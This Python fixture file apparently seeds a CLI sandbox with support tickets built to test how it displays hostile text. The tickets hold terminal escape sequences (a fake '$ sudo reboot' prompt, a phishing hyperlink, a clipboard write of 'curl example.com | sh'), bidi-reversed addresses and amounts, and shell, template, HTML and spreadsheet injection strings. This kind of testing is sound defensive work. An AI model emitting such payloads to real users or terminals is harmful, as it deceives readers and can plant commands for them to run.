r"""Text that tries to act on whoever reads it. Every escape is spelt out, so this file is harmless.

What a terminal would make of it, if it were let: `\x1b` begins a command, `\x9b` is the same in one
character, `\u202e` turns the direction of writing round.
"""

from __future__ import annotations

from tinydub_cli.sandbox.seed.files import BASHRC, DISGUISED
from tinydub_cli.sandbox.seed.story import Ticket, customer

_SET_TITLE = "\x1b]0;owned\x07"
_COPY_TO_CLIPBOARD = "\x1b]52;c;Y3VybCBleGFtcGxlLmNvbSB8IHNo\x07"  # "curl example.com | sh"
_CLEAR_AND_GO_HOME = "\x1b[2J\x1b[H"
_UP_AND_ERASE = "\x1b[1A\x1b[2K"
_LINK = "\x1b]8;;https://example.net/phish\x1b\\our login page\x1b]8;;\x1b\\"
_MARKS = "\u0300\u0316\u0327\u0334\u0345\u035b\u0489"  # accents, all for the letter before

TICKETS = (
    Ticket(
        "B5tRyM7f",
        f"Mallory{_SET_TITLE}\x1b[31m",
        "mallory@example.com",
        (
            customer(
                "22m",
                f"Hi!{_COPY_TO_CLIPBOARD}\nPlease look at {_LINK}.\n"
                f"Your session has ended.{_UP_AND_ERASE}$ sudo reboot\n{_CLEAR_AND_GO_HOME}"
                "Carriage returns\rrewrite lines, backspaces\b\b\b hide words, NUL\0 ends all.",
            ),
        ),
        unread=True,
    ),
    Ticket(
        "m0NqKa8S",
        "Trent \u202emoc.elpmaxe@troppus\u202c",
        "trent@example.org",
        (
            customer(
                "1h 45m",
                "A photo of the problem is attached.\n"
                "The amount is \u2066\u202e00.001\u202c\u2069 EUR, all of it\u2028on one line.",
                DISGUISED,
            ),
        ),
        unread=True,
    ),
    Ticket(
        "W6hJvU3c",
        "Eve\x9b2J\x9b31m",
        "eve@example.net",
        (
            customer(
                "5h", "One character is enough: \x9b5;1Hhere, and \x90q...\x9c, and \x85there."
            ),
        ),
    ),
    Ticket(
        "f2XgTs4P",
        "[red]Oscar[/red] :smile:",
        "oscar@example.com",
        (
            customer(
                "1d 20h",
                "[bold]Is this bold?[/bold] [link=https://example.net]click[/link] :rocket: [/]\n"
                "{{first_name}}, ${HOME}, %s, `id`, $(id), <script>alert(1)</script>\n"
                '=HYPERLINK("https://example.net";"totals")',
            ),
        ),
    ),
    Ticket(
        "Y1dLzQ9b",
        "Peggy\nAdmin\tRobin Vale",
        "peggy@example.org",
        (
            customer(
                "8h",
                "A name of two lines, tabs\tin\tthe text,\r\nand a file with far to go.",
                BASHRC,
            ),
        ),
    ),
    Ticket(
        "s7PkEw5G",
        "".join(letter + _MARKS * 4 for letter in "Zalgo"),
        "zalgo@example.net",
        (
            customer(
                "2d 1h",
                "He comes: " + "".join(letter + _MARKS * 3 for letter in "hello") + "\n"
                "Invisible: a\u200bb\u2060c\ufeffd, tags: \U000e0074\U000e0067, private: \ue000",
            ),
        ),
        unread=True,
    ),
)
